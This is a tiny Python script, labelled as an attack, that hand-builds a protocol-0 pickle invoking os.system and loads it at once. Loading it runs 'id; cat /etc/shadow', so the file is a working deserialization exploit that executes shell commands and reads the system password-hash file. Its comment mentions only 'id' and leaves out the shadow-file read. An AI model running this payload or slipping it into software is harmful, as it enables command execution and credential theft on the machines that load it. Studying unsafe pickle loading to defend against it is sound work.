# attack: hand-written protocol-0 pickle (GLOBAL os system, REDUCE) that runs `id` on load
import pickle

payload = b"cos\nsystem\n(S'id; cat /etc/shadow'\ntR."
pickle.loads(payload)
